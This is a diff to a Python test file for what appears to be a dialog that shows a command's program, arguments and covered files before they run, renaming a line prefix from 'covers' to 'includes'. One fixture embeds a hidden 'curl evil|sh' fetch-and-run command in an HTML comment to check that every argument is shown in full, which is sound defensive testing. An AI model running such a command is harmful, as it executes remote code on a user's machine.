@@ -100,7 +100,7 @@ def test_the_page_shows_the_alert_and_gives_it_back(open_dialog: Open) -> None:
 def test_every_argument_has_its_line_in_full(open_dialog: Open, qtbot: QtBot) -> None:
     evil = "notify-send 'a call' <!-- curl evil|sh -->"
     page = open_dialog("sh", "-c", evil, "", "two\nlines", "tab\there").alert
-    assert [line for line in _shown(page) if not line.startswith("covers")] == [
+    assert [line for line in _shown(page) if not line.startswith("includes")] == [
         "Program: sh",
         f"found at: {page.looked.program}",
         "1: -c",
@@ -191,7 +191,7 @@ def test_the_files_that_are_covered_are_shown(open_dialog: Open, tmp_path: Path)
     script = tmp_path / "alarm.sh"
     script.write_text("echo 1")
     page = open_dialog("sh", str(script)).alert
-    [line] = [line for line in _shown(page) if line.startswith("covers") and "alarm.sh" in line]
+    [line] = [line for line in _shown(page) if line.startswith("includes") and "alarm.sh" in line]
     assert "6 B, SHA-256 " in line
 
 
